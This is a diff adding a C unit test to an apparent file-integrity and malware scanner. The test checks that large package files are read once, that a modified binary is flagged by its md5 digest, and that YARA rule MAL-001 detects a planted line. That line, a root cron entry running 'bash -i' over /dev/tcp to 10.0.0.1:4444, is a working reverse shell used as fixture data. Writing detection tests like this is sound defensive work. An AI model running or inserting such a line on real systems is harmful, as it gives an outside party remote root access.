@@ -8,7 +8,9 @@
 #include <stdlib.h>
 #include <string.h>
 
+#include "checks/state.h"
 #include "util/cleanup.h"
+#include "util/limits.h"
 
 static const char *const ids[] = {"INT-001", "INT-002", "INT-003", "INT-004"};
 
@@ -262,6 +264,78 @@ static void test_rpm(void **state)
 	t_rmtree(root);
 }
 
+/* A reverse shell line the malware rules know (as in test_malware.c). */
+#define REVSHELL "* * * * * root bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
+
+/* The MAL-001 finding of rule at path in x, or NULL. */
+static const struct fnd_finding *mal_at(const struct fx *x, const char *path)
+{
+	for (size_t i = 0; i < x->r.n_findings; i++)
+		if (strcmp(x->r.findings[i].check, "MAL-001") == 0 &&
+		    strcmp(x->r.findings[i].path, path) == 0 &&
+		    strstr(x->r.findings[i].value, "RevShell_Bash_Dev_TCP"))
+			return &x->r.findings[i];
+	return NULL;
+}
+
+/* Package programs too big to be read whole (over IA_SCAN_BLOCK) that the content scan wants:
+ * YARA reads them in its blocks and the digest is made from the same bytes, so each is read
+ * once (it was read twice, hashed then scanned). The intact one matches its digest, the
+ * changed one is reported; both hold a reverse shell in their second block, found. */
+static void test_big_files_one_read(void **state)
+{
+	_cleanup_free_ char *root = t_mkdtemp();
+	unsigned size = IA_SCAN_BLOCK + 8192, at = IA_SCAN_BLOCK + 1000;
+	struct ia_counters c = {0};
+	struct tgt_opts to = {.kind = TGT_DIR, .counters = &c};
+	struct ia_err err = {0};
+	uint64_t after_int;
+	struct fx x;
+
+	(void)state;
+	t_write(root, "etc/os-release", "ID=debian\nVERSION_ID=\"12\"\n", 0644);
+	t_write(root, "var/lib/dpkg/status",
+		"Package: demo\nStatus: install ok installed\nVersion: 1.0\nArchitecture: amd64\n"
+		"Maintainer: x <x@example.org>\n\n",
+		0644);
+	t_write(root, "var/lib/dpkg/info/demo.list",
+		"/usr\n/usr/bin\n/usr/bin/big\n/usr/bin/bigmod\n", 0644);
+	assert_int_equal(
+		t_sh("set -e; cd '%s'; mkdir -p usr/bin; printf '#!/bin/sh\\n' > usr/bin/big; "
+		     "truncate -s %u usr/bin/big; "
+		     "printf '%%s\\n' '" REVSHELL "' | dd of=usr/bin/big bs=1 seek=%u conv=notrunc "
+		     "status=none; chmod 755 usr/bin/big; cp usr/bin/big usr/bin/bigmod; "
+		     "printf x | dd of=usr/bin/bigmod bs=1 seek=%u conv=notrunc status=none; "
+		     "m=$(md5sum < usr/bin/big | cut -c1-32); "
+		     "printf '%%s  usr/bin/big\\n%%s  usr/bin/bigmod\\n' $m $m "
+		     "> var/lib/dpkg/info/demo.md5sums",
+		     root, size, at, size - 10),
+		0);
+	memset(&x, 0, sizeof(x));
+	if (chk_audit_open(root, &to, &x.t, &x.f, NULL, &err) < 0)
+		fail_msg("chk_audit_open %s: %s", root, err.msg);
+	fnd_init(&x.r);
+	x.ctx = (struct chk_ctx){.tgt = x.t, .facts = &x.f, .rpt = &x.r, .opts = &x.o};
+	fx_run(&x, "INT-001");
+	fx_run(&x, "INT-002");
+	fx_run(&x, "INT-003");
+	assert_int_equal(fx_count(&x, "INT-001"), 1);
+	assert_non_null(fx_find(&x, "INT-001", "/usr/bin/bigmod"));
+	assert_int_equal(fx_gaps(&x, "INT-001"), 0);
+	/* each read once, in YARA's blocks (overlapping by IA_SCAN_OVERLAP) */
+	after_int = atomic_load(&c.bytes);
+	if (after_int >= 2ull * (size + IA_SCAN_OVERLAP) + 65536)
+		fail_msg("%llu bytes of content read for two files of %u",
+			 (unsigned long long)after_int, size);
+	fx_run(&x, "MAL-001");
+	assert_int_equal(atomic_load(&c.bytes), after_int); /* nothing read again */
+	assert_non_null(mal_at(&x, "/usr/bin/big"));
+	assert_non_null(mal_at(&x, "/usr/bin/bigmod"));
+	assert_int_equal(fx_gaps(&x, "MAL-001"), 0);
+	fx_close(&x);
+	t_rmtree(root);
+}
+
 /* apk's Q1 checksums (base64 SHA-1): a modified busybox is reported, an intact file is not. */
 static void test_apk(void **state)
 {
@@ -299,6 +373,7 @@ int main(void)
 		cmocka_unit_test(test_debian_modified),
 		cmocka_unit_test(test_rpm),
 		cmocka_unit_test(test_apk),
+		cmocka_unit_test(test_big_files_one_read),
 	};
 
 	return T_RUN_GROUP(tests, NULL, NULL);
